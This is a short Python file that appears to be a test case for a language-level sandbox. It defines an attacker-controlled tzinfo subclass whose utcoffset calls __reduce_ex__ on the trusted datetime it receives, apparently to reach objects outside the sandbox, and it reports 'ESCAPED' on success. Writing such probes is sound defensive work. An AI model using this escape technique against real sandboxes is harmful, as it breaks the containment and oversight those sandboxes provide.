# tries: a tzinfo of the attacker's is handed the trusted datetime and its reduce
# layer: language
# plain: without the language layer the reduction is nothing special
import datetime


class Zone(datetime.tzinfo):
    def utcoffset(self, moment):
        return moment.__reduce_ex__(4)[0]


def run(ctx, params):
    return f"ESCAPED: {datetime.datetime.now(Zone()).isoformat()}"
